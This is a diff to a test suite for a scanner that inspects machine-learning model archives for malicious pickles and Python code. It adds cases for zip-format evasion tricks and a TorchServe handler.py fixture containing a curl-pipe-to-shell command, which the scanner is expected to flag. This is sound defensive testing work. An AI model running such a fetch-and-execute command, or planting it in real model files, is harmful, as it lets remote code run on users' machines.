@@ -55,6 +55,27 @@ describe("inspect archives", () => {
     const bomb = zipFile([{ name: "data.pkl", content: joined(bytes("\x80\x04B\xff\xff\xff\x7f"), new Uint8Array(40_000_000)), deflate: true }]);
     const report = inspected(bomb, "model.pt");
     assert.equal(report.verdict, "uninspected", told(report));
+  }).timeout(20_000);
+
+  it("looks at members that no list names, and at what a header before the data says otherwise", () => {
+    const whole = zipFile([{ name: "data.pkl", content: evil }]);
+    const listed = Buffer.from(whole).lastIndexOf("PK\x01\x02");
+    const cut = whole.subarray(0, Buffer.from(whole).lastIndexOf("PK\x05\x06"));
+    assert.match(told(inspected(cut, "model.pt")), /^dangerous at data\.pkl.*os\.system/);
+    assert.match(told(inspected(joined(whole.subarray(0, listed), zipFile([{ name: "data.pkl", content: good }])), "model.pt")), /^dangerous at data\.pkl.*os\.system/);
+    const otherMethod = whole.slice();
+    otherMethod[listed + 10] = 8;
+    assert.match(told(inspected(otherMethod, "model.pt")), /^dangerous at data\.pkl.*os\.system/);
+    assert.match(told(inspected(joined(zipFile([{ name: "data.pkl", content: good }]), evil), "model.pt")), /^dangerous .*Behind its end/);
+  });
+
+  it("reads tar archives without the mark of newer writers", () => {
+    const header = new Uint8Array(512).fill(0);
+    header.set(bytes("pickle"));
+    header.set(bytes(`${evil.length.toString(8).padStart(11, "0")}\0`), 124);
+    header.set(bytes("        "), 148);
+    header.set(bytes(`${header.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, "0")}\0 `), 148);
+    assert.match(told(inspected(joined(header, evil, new Uint8Array(1024)), "model.pt")), /^dangerous at pickle.*os\.system/);
   });
 
   it("reads tar archives, as NeMo writes them", () => {
@@ -76,6 +97,8 @@ describe("inspect archives", () => {
   it("tells of Python code in an archive by what runs it", () => {
     const archive = (members: Readonly<Record<string, string>>): string => told(inspected(zipFile(Object.entries(members).map(([name, content]) => ({ name, content: bytes(content) }))), "model.bin"));
     assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "import os" }), /^suspicious at handler\.py: TorchServe runs this/);
+    assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('curl http://x | sh')" }), /^dangerous at handler\.py/);
+    assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('pip install timm')" }), /^suspicious at handler\.py/);
     assert.match(archive({ "m/data.pkl": "\x80\x02N.", "m/net.py": "import os" }), /^suspicious at m\/net\.py: A PyTorch package/);
     const script = (line: string): string => archive({ "m/data.pkl": "\x80\x02N.", "m/code/__torch__.py": `def forward(self, x):\n  return ${line}\n` });
     assert.equal(script("torch.add(ops.quantized.linear(x), ops.torchvision.nms(x))"), "");
